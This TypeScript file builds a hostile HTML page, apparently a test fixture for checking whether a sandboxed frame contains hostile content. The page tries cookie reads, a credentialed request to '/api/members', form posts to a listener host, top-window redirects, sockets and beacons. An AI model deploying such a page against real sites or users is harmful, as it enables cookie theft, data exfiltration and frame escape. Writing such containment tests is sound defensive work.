/**
 * A page that tries to leave its frame in every way there is, and notes the outcomes.
 * @param listener address and port of a host that counts who connects
 */
export const hostilePage = (listener: string): string => `<!doctype html>
<html><head><title>Harbor fees</title>
<link rel="stylesheet" href="http://${listener}/style.css">
<link rel="prefetch" href="http://${listener}/prefetch">
<link rel="preload" as="image" href="http://${listener}/preload">
<link rel="modulepreload" href="http://${listener}/module.js">
<link rel="icon" href="http://${listener}/icon">
<link rel="manifest" href="http://${listener}/manifest">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data: blob:">
<meta http-equiv="refresh" content="600;url=http://${listener}/refresh">
<base href="http://${listener}/">
<script src="http://${listener}/script.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${listener}/speculated"]}]}</script>
<style>@import "http://${listener}/import.css";@font-face{font-family:x;src:url(http://${listener}/font)}body{font-family:x;background:url(http://${listener}/background)}</style>
</head><body>
<h1>Fees</h1>
<img src="http://${listener}/image"><img srcset="http://${listener}/set 1x"><video src="http://${listener}/video" poster="http://${listener}/poster"></video>
<audio src="http://${listener}/audio"></audio><iframe src="http://${listener}/frame"></iframe><object data="http://${listener}/object"></object>
<embed src="http://${listener}/embed"><svg><image href="http://${listener}/svg"/><use href="http://${listener}/use#x"/></svg>
<iframe srcdoc="<script>parent.postMessage('nested','*');fetch('http://${listener}/nested').catch(()=>0);new Image().src='http://${listener}/nested-image'</script>"></iframe>
<form action="http://${listener}/form" method="post"><input name="secret" value="x"></form>
<a id="out" href="http://${listener}/ping" ping="http://${listener}/pinged" target="_blank">out</a>
<a id="top" href="http://${listener}/top" target="_top">top</a>
<script>
const outcomes = {};
const attempt = async (name, run) => {
  try { outcomes[name] = String(await run()); } catch (error) { outcomes[name] = error.name; }
};
window.done = (async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("set cookie", () => { document.cookie = "hacked=1"; });
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => indexedDB.open("x"));
  await attempt("caches", () => caches.open("x"));
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => top.document.cookie);
  await attempt("frame element", () => window.frameElement);
  await attempt("fetch", () => fetch("http://${listener}/fetch"));
  await attempt("own host", () => fetch("/api/members", { credentials: "include" }));
  await attempt("request", () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onerror = () => reject(new TypeError());
    request.onload = resolve;
    request.open("GET", "http://${listener}/xhr");
    request.send();
  }));
  await attempt("beacon", () => { navigator.sendBeacon("http://${listener}/beacon", "x"); });
  await attempt("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket("ws://${listener}/socket");
    socket.onopen = resolve;
    socket.onerror = () => reject(new TypeError());
  }));
  await attempt("events", () => new Promise((resolve, reject) => {
    const source = new EventSource("http://${listener}/events");
    source.onopen = resolve;
    source.onerror = () => { source.close(); reject(new TypeError()); };
  }));
  await attempt("worker", () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = resolve;
    worker.onerror = () => reject(new TypeError());
  }));
  await attempt("import", () => import("http://${listener}/import.js"));
  await attempt("popup", () => window.open("http://${listener}/popup"));
  await attempt("dialog", () => { alert("hacked"); });
  await attempt("form", () => document.forms[0].submit());
  await attempt("links", () => { document.getElementById("out").click(); document.getElementById("top").click(); });
  await attempt("top address", () => { top.location.href = "http://${listener}/top"; });
  await attempt("message", () => { parent.postMessage({ id: 1, svg: "<svg/>", type: "x" }, "*"); });
  return outcomes;
})();
</script></body></html>`;
